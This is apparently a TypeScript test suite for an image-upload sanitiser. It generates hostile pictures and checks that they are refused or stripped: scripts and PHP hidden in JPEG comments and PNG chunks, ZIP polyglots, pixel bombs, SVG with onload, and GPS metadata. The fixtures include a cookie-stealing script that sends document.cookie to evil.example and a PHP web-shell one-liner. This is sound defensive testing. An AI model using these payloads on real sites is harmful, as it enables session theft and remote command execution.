import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp, { type Sharp } from 'sharp'
import { beforeAll, describe, expect, test } from 'vitest'
import { PictureRefused, processPicture } from '#src/kit/media/pictures.server.ts'
import { loadSharp } from '#src/kit/media/sharp.server.ts'
import { withBlockedDecoders } from '#tools/test-kit/blocked-decoders.ts'
import { dice } from '#tools/test-kit/dice.ts'
import { often } from '#tools/test-kit/often.ts'

/** Files as an attacker or an old phone would send them. The test makes them all and fetches none. test:deep makes 400. */
const COUNT = often(60, 400)

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>'
const PHP = '<?php system($_GET["c"]); ?>'
const FORBIDDEN = [
  '<script',
  '<?php',
  '<svg',
  'GPS',
  'SECRET',
  'Exif\0',
  'http://ns.adobe.com',
  'PK\u0003\u0004',
  'ICC_PROFILE',
  'evil.example',
]

function drawing(seed: number, width = 160, height = 120): Sharp {
  const data = Buffer.alloc(width * height * 3)
  for (let at = 0; at < data.length; at++) data[at] = (at * (seed + 3) + (at >> 7)) & 255
  return sharp(data, { raw: { width, height, channels: 3 } })
}
const jpeg = (seed: number) => drawing(seed).jpeg({ quality: 80 }).toBuffer()
const png = (seed: number) => drawing(seed).png().toBuffer()

function chunk(type: string, body: Buffer, sum = crc32(Buffer.concat([Buffer.from(type, 'latin1'), body]))): Buffer {
  const numbers = [Buffer.alloc(4), Buffer.alloc(4)] as const
  numbers[0].writeUInt32BE(body.length)
  numbers[1].writeUInt32BE(sum)
  return Buffer.concat([numbers[0], Buffer.from(type, 'latin1'), body, numbers[1]])
}
const SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex')

/** Built by hand with one bit per pixel, so a huge picture is a tiny file. */
function bomb(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc(Math.min(height, 2000) * (Math.ceil(width / 8) + 1)))
  return Buffer.concat([SIGNATURE, chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

/** Inserts a JPEG segment after the start-of-image marker. */
function withSegment(picture: Buffer, marker: number, body: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 255])
  return Buffer.concat([picture.subarray(0, 2), head, body, picture.subarray(2)])
}
const withChunk = (picture: Buffer, type: string, body: Buffer) =>
  Buffer.concat([picture.subarray(0, 33), chunk(type, body), picture.subarray(33)])

type Kind = [name: string, isPicture: boolean | null, make: (seed: number, roll: (max: number) => number) => Promise<Buffer> | Buffer]
/** `true`: must be accepted without the hidden payload. `false`: must be refused. `null`: either, but never with the payload. */
const kinds: Kind[] = [
  ['a script in a JPEG comment', true, async (seed) => withSegment(await jpeg(seed), 0xfe, Buffer.from(SCRIPT))],
  ['PHP in a JPEG comment', true, async (seed) => withSegment(await jpeg(seed), 0xfe, Buffer.from(PHP + seed))],
  ['a script after the end', true, async (seed) => Buffer.concat([await jpeg(seed), Buffer.from(SCRIPT.repeat(1 + (seed % 9)))])],
  ['a ZIP after the end', true, async (seed) => Buffer.concat([await jpeg(seed), Buffer.from('PK\u0003\u0004'), gzipSync(Buffer.from(PHP))])],
  ['GPS in EXIF', true, (seed) => drawing(seed).withExif({ IFD0: { Model: 'SECRET' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: `${11 + (seed % 3)}/1 1/1 0/1` } }).jpeg().toBuffer()],
  ['an owner in XMP', true, (seed) => drawing(seed).withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/">SECRET http://ns.adobe.com</x:xmpmeta>').jpeg().toBuffer()],
  ['a colour profile', true, (seed) => drawing(seed).withIccProfile('p3').jpeg().toBuffer()],
  ['an orientation', true, (seed) => drawing(seed).withExif({ IFD0: { Orientation: String(1 + (seed % 8)), Copyright: 'SECRET' } }).jpeg().toBuffer()],
  ['a script in a PNG text', true, async (seed) => withChunk(await png(seed), 'tEXt', Buffer.from(`Comment\0${SCRIPT}`, 'latin1'))],
  ['PHP in a packed PNG text', true, async (seed) => withChunk(await png(seed), 'zTXt', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.from(PHP))]))],
  ['a script in an unknown PNG chunk', null, async (seed) => withChunk(await png(seed), 'evIl', Buffer.from(SCRIPT))],
  ['EXIF in a PNG', null, async (seed) => withChunk(await png(seed), 'eXIf', Buffer.from('II*\0\b\0\0\0\0\0GPS SECRET'))],
  ['PHP between signature and header', false, async (seed) => Buffer.concat([SIGNATURE, Buffer.from(PHP), (await png(seed)).subarray(8)])],
  ['a wrong checksum', false, async (seed) => { const whole = await png(seed); return flipped(whole, (whole.length >> 1) + (seed % 20)) }],
  ['a truncated picture', null, async (seed, roll) => { const whole = await (seed % 2 ? jpeg(seed) : png(seed)); return whole.subarray(0, Math.max(1, Math.floor((whole.length * roll(63)) / 64))) }],
  ['a flipped byte', null, async (seed, roll) => { const whole = await (seed % 2 ? jpeg(seed) : png(seed)); return flipped(whole, roll(whole.length)) }],
  ['an SVG sent as a picture', false, () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`)],
  ['HTML sent as a picture', false, (seed) => Buffer.from(`<!doctype html>${SCRIPT}${seed}`)],
  ['a GIF', false, () => Buffer.concat([Buffer.from('GIF89a/*', 'latin1'), Buffer.from(SCRIPT)])],
  ['a WebP', false, (seed) => drawing(seed).webp().toBuffer()],
  ['a TIFF', false, (seed) => drawing(seed).tiff().toBuffer()],
  ['an AVIF', false, (seed) => drawing(seed).avif({ effort: 0 }).toBuffer()],
  ['HTML after the first bytes of a JPEG', false, () => Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from(SCRIPT)])],
  ['an empty file', false, () => Buffer.alloc(0)],
  ['noise', false, (_, roll) => Buffer.from(Array.from({ length: 200 + roll(2000) }, () => roll(256)))],
  ['noise after a signature', false, (_, roll) => Buffer.concat([SIGNATURE, Buffer.from(Array.from({ length: 300 }, () => roll(256)))])],
  ['a bomb of 400 million pixels', false, () => bomb(20_000, 20_000)],
  ['a bomb of 256 million pixels', false, () => bomb(16_000, 16_000)],
  ['a header with a wrong size', false, (seed) => bomb(4000, 3000 + (seed % 100))],
  ['a picture 65,500 pixels wide and two high', false, () => drawing(1, 65_500, 2).jpeg().toBuffer()],
  ['an icon', false, () => drawing(1, 32, 32).png().toBuffer()],
  ['a grey one with 16 bits', true, (seed) => drawing(seed).toColourspace('grey16').png({ bitdepth: 16 } as object).toBuffer()],
  ['a CMYK one', true, (seed) => drawing(seed).toColourspace('cmyk').jpeg().toBuffer()],
  ['a progressive one', true, (seed) => drawing(seed).jpeg({ progressive: true }).toBuffer()],
  ['one with transparency', true, (seed) => drawing(seed).ensureAlpha(0.4).png().toBuffer()],
  ['one with a thumbnail of another', true, async (seed) => withSegment(await jpeg(seed), 0xe1, Buffer.concat([Buffer.from('Exif\0\0II*\0SECRET'), await jpeg(seed + 1)]))],
  ['one with another picture appended', true, async (seed) => Buffer.concat([await jpeg(seed), await png(seed), Buffer.from(PHP)])],
  ['nine megabytes', false, async (seed) => Buffer.concat([await jpeg(seed), Buffer.alloc(9 * 1024 * 1024)])],
] // oxfmt-ignore

function flipped(picture: Buffer, at: number): Buffer {
  const copy = Buffer.from(picture)
  copy[at] = copy[at]! ^ 0xff
  return copy
}

beforeAll(async () => void (await loadSharp()))

const files = Array.from({ length: Math.max(COUNT, kinds.length) }, (_, n) => ({ n, kind: kinds[n % kinds.length]! }))

describe('hostile pictures', () => {
  test.each(files.map(({ n, kind }) => [n, kind[0], kind] as const))('%i: %s', async (n, _, [, isPicture, make]) => {
    const bytes = await make(n, dice(n + 1))
    const picture = await processPicture(bytes).catch((error: unknown) => {
      // Any other error would be a bug and a 500.
      expect(error).toBeInstanceOf(PictureRefused)
      return null
    })
    if (isPicture !== null) expect(picture !== null).toBe(isPicture)
    for (const { bytes: stored, format } of picture?.variants ?? []) {
      const text = stored.toString('latin1')
      for (const word of FORBIDDEN) expect([format, word, text.includes(word)]).toEqual([format, word, false])
      const { exif, xmp, icc, iptc, comments, orientation } = await withBlockedDecoders(() => sharp(stored).metadata())
      expect([exif, xmp, icc, iptc, comments ?? [], orientation ?? 1]).toEqual([undefined, undefined, undefined, undefined, [], 1])
    }
  })
})
